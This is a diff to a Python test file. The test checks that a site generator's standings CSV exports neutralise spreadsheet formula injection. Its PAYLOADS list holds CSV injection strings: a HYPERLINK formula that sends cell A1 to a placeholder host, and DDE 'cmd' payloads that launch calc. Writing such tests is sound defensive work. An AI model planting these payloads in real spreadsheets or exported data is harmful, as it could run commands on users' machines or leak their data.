@@ -12,8 +12,9 @@ from corpus_site import FILES, write
 from sitegen.cli.main import main
 from sitegen.text import csv_cell
 
+# A name cannot hold a tab or a carriage return (the loader refuses control characters): those two are csv_cell's below.
 PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1", "=1+1"]
+            " =1+1", "=SUM(1;2)", "=1+1"]
 NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
 
 
@@ -50,7 +51,7 @@ def test_every_standings_csv_neutralises_formulas(site, tmp_path, capsys):
     for event in ("j", "m", "v"):
         rows = _assert_harmless((tmp_path / "out" / "events" / event / "standings.csv").read_bytes().decode())
         seen |= {cell for row in rows for cell in row}
-    assert {"'" + p.replace("\r", "\n") for p in PAYLOADS if p != PAYLOADS[1]} <= seen
+    assert {"'" + p for p in PAYLOADS if p != PAYLOADS[1]} <= seen
     capsys.readouterr()
 
 
